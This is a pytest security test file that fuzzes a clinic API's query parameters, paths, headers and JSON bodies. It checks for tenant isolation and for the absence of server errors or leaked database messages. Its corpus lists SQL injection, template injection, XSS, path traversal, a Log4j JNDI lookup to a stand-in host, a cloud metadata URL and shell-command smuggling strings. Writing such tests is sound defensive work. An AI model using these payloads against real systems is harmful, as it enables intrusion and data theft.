"""What sqlmap and its kin send, on every parameter, part of a path and field of every door: never an error of ours,
never a row of another clinic, and not a row more or less."""

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlencode

import pytest

from tests.api.client import Machine, a_call, an_appointment
from tests.api.world import Belongings, bright_smile, count_rows, lift_limits, oak_street, shown

pytestmark = pytest.mark.django_db
CORPUS: list[str] = [
    "'", '"', "`", "\\", "''", "%27", "%2527", "%00", "\x00", "a\x00b", "';--", "' OR '1'='1", "' OR 1=1 --",
    '" OR ""="', "') OR ('1'='1", "1; DROP TABLE tenants_clinic; --", "1 UNION SELECT * FROM tenants_apikey --",
    "' UNION ALL SELECT NULL,NULL,NULL--", "1 AND 1=CAST((SELECT version()) AS int)", "'; SELECT pg_sleep(30) --",
    "1 OR pg_sleep(30)--", "' || (SELECT set_config('app.clinic_id', '{clinic}', true)) || '", "$$", "$1", "%s",
    "%(x)s", "{0.__class__}", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{% debug %}", "#{7*7}", "${jndi:ldap://mallory.example/a}",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "|id", ";id", "$(id)",
    "`id`", "a\r\nSet-Cookie: x=1", "%0d%0aX-Evil:%201", "\u202e", "\ufeff", "\ud7ff", "\U0001f9b7" * 20, "é" * 100,
    "-1", "0", "9" * 30, "1e309", "NaN", "Infinity", "null", "true", "[]", "{}", "*", "_", "%", ",", "a=b&c=d",
    "a" * 5000, "__proto__", "constructor", "clinic_id", "id__in", "app.clinic_id",
]  # fmt: skip
PARAMETERS: dict[str, tuple[str, ...]] = {
    "/calls/": ("from", "to", "direction", "outcome", "caller", "cursor", "page_size"),
    "/appointments/": ("from", "to", "status", "verdict", "reason", "cursor", "page_size"),
    "/opportunities/": ("from", "to", "status", "cursor", "page_size"),
    "/metrics/daily/": ("from", "to"),
    "/metrics/monthly/": ("from", "to"),
    "/metrics/hourly/": ("from", "to"),
}
PATHS = [("PATCH", "/appointments/{}/"), ("POST", "/opportunities/{}/actions/"), ("GET", "/{}/"), ("GET", "/calls/{}")]
HEADERS = ("X-Clinic", "Idempotency-Key", "Accept", "Accept-Language", "X-Request-Id", "Authorization", "Host")
OPEN = ("/token/", "/token/refresh/", "/token/revoke/")


@pytest.fixture
def ours(db: None, monkeypatch: pytest.MonkeyPatch) -> Belongings:
    lift_limits(monkeypatch)
    return bright_smile()


@pytest.fixture
def theirs(db: None) -> Belongings:
    return oak_street()


class Watch:
    """Sends, and looks at every answer. `writes` are what may be there afterwards that was not before."""

    def __init__(self, ours: Belongings, theirs: Belongings) -> None:
        self.ours, self.theirs = ours, theirs
        self.before = count_rows(ours.clinic), count_rows(theirs.clinic)

    def look(self, answer: Any, sent: Any) -> int:
        assert answer.status_code < 500, (sent, answer.content)
        said = shown(answer)
        assert [secret for secret in self.theirs.secrets if secret in said and secret not in repr(sent).encode()] == []
        assert not {"Set-Cookie", "X-Evil"} & set(answer.headers)
        assert not any(word in said for word in (b"psycopg", b"Traceback", b"syntax error", b"PostgreSQL"))
        return int(answer.status_code)

    def require_unchanged(self) -> None:
        assert (count_rows(self.ours.clinic), count_rows(self.theirs.clinic)) == self.before


@pytest.fixture
def watch(ours: Belongings, theirs: Belongings) -> Watch:
    return Watch(ours, theirs)


def corpus(watch: Watch) -> Iterator[str]:
    for text in CORPUS:
        yield text.replace("{clinic}", str(watch.theirs.clinic.id))
    yield from watch.theirs.ids


def test_every_parameter_of_every_list(watch: Watch) -> None:
    for number, text in enumerate(corpus(watch)):
        asking = watch.ours.clients[number % 2]
        spelt = text.encode("utf-8", "replace")
        for path, names in PARAMETERS.items():
            one = names[number % len(names)]
            for query in (urlencode(dict.fromkeys(names, spelt)), urlencode({one: spelt}), f"{quote(spelt)}=1"):
                status = watch.look(asking.follow(f"/api/v1{path}?{query}"), text)
                assert status == 400 or (status == 200 and (one == "caller" or "page_size" not in names)), query
        watch.look(asking.get("/calls/", caller=text), text)
    watch.require_unchanged()


def test_queries_that_are_badly_spelt(watch: Watch) -> None:
    for raw in ("%", "%zz", "%ff", "%c0%ae", "a=%ed%a0%80", "&&==", "from=%00", "%27=%27", "from[]=1", "from=" * 2000):
        for path in PARAMETERS:
            watch.look(watch.ours.key.follow(f"/api/v1{path}?{raw}"), raw)
    watch.require_unchanged()


def test_every_part_of_a_path(watch: Watch) -> None:
    for number, text in enumerate(corpus(watch)):
        asking = watch.ours.clients[number % 2]
        for method, path in PATHS:
            for spelt in {quote(text.encode("utf-8", "replace"), safe=safe) for safe in ("", "/")}:
                status = watch.look(asking.send(method, path.format(spelt), "{}"), text)
                assert status in {400, 404, 405}
                body = '{"status": "cancelled"}' if method == "PATCH" else '{"kind": "dismissed", "reason": "spam"}'
                assert watch.look(asking.send(method, path.format(spelt), body), text) in {400, 404, 405}
    watch.require_unchanged()


def bodies() -> dict[tuple[str, str], dict[str, Any]]:
    return {
        ("POST", "/calls/"): a_call(line="x", ring_seconds=1, talk_seconds=0),
        ("POST", "/appointments/"): an_appointment(type="x", value="1.00"),
        ("POST", "/callers/lookup/"): {"number": "x"},
        ("PATCH", "/appointments/none/"): {"status": "booked", "value": "1.00"},
        ("POST", "/opportunities/01234567-89ab-4cde-8f01-23456789abcd/actions/"): {
            "kind": "called_back", "reached": True, "reason": "spam",
        },
        ("POST", "/token/"): {"email": "x", "password": "x", "code": "x"},
        ("POST", "/token/refresh/"): {"refresh": "x"},
        ("POST", "/token/revoke/"): {"refresh": "x"},
    }  # fmt: skip


def test_every_field_of_every_body(watch: Watch, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tenants.services.token_sign_ins.authenticate", lambda request, **credentials: None)
    stored = 0
    for number, text in enumerate(corpus(watch)):
        for (method, path), good in bodies().items():
            asking = Machine(None) if path in OPEN else watch.ours.clients[number % 2]
            for change in changes(good, text, number):
                stored += watch.look(asking.send(method, path, json.dumps({**good, **change})), text) == 201
    assert stored > 0  # labels and ids are text, and stay text
    assert count_rows(watch.theirs.clinic) == watch.before[1]


def changes(good: dict[str, Any], text: str, number: int) -> Iterator[dict[str, Any]]:
    """In all fields at once; in one after the other in another shape each time; as a field's name; and alone in what
    takes almost any text."""
    one = list(good)[number % len(good)]
    yield dict.fromkeys(good, text)
    yield ({one: text}, {one: [text]}, {one: {text: text}}, {text: 1})[number // 2 % 4]
    for name in {"external_id", "line", "type"} & set(good):
        yield {name: text}


def test_every_header(watch: Watch) -> None:
    for number, text in enumerate(corpus(watch)):
        value = text.replace("\r", " ").replace("\n", " ").encode("latin-1", "replace").decode("latin-1")
        asking = watch.ours.clients[number % 2]
        for name in HEADERS:
            method = "POST" if name == "Idempotency-Key" else "GET"
            watch.look(asking.send(method, "/calls/", "{}", **{name.replace("-", "_"): value}), text)
    watch.require_unchanged()


def test_other_encodings(watch: Watch) -> None:
    for charset in ("utf-16", "utf-32", "utf-7", "latin-1", "utf-8-sig", "cp037"):
        for method, path in bodies():
            body = json.dumps({"x": "é' OR 1=1 --"}, ensure_ascii=False).encode(charset)
            for named in ("application/json", f"application/json; charset={charset}"):
                assert watch.look(watch.ours.key.send(method, path, body, named), charset) in {400, 415}
    watch.require_unchanged()


def test_ten_megabytes_and_a_thousand_levels(watch: Watch) -> None:
    for method, path in bodies():
        asking = Machine(None) if path in OPEN else watch.ours.token
        for body in (b'"' + b"a" * 10_000_000 + b'"', b"[" * 3_000_000, b'{"a":' * 300_000):
            assert watch.look(asking.send(method, path, body), "large") in {400, 413}
        assert watch.look(asking.send(method, path, b'{"a":' * 1000 + b"1" + b"}" * 1000), "deep") == 400
    watch.require_unchanged()
